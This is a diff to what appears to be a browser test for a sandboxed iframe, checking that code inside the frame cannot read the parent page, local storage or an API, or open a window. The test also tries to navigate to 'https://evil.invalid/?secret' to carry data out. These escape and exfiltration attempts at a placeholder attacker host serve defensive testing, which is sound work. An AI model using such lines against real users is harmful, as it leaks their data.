@@ -88,7 +88,7 @@ test.describe('the frame', () => {
             setTimeout(() => resolve('refused'), 500);
           });
         return {
-          origin: origin,
+          place: self.origin,
           page: await refused(() => parent.document.title),
           storage: await refused(() => localStorage.length),
           fetch: await refused(() => fetch(`${url}/api/models`)),
@@ -108,8 +108,8 @@ test.describe('the frame', () => {
           window: open('https://evil.invalid/') ? 'done' : 'refused',
         };
       }, brooklet.url);
-      const { origin, ...rest } = outcomes;
-      expect(origin).toBe('null');
+      const { place, ...rest } = outcomes;
+      expect(place).toBe('null');
       expect(Object.entries(rest).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
       // Nor can it go somewhere else and take something along.
       await frame.evaluate(() => void setTimeout(() => (location.href = 'https://evil.invalid/?secret')));
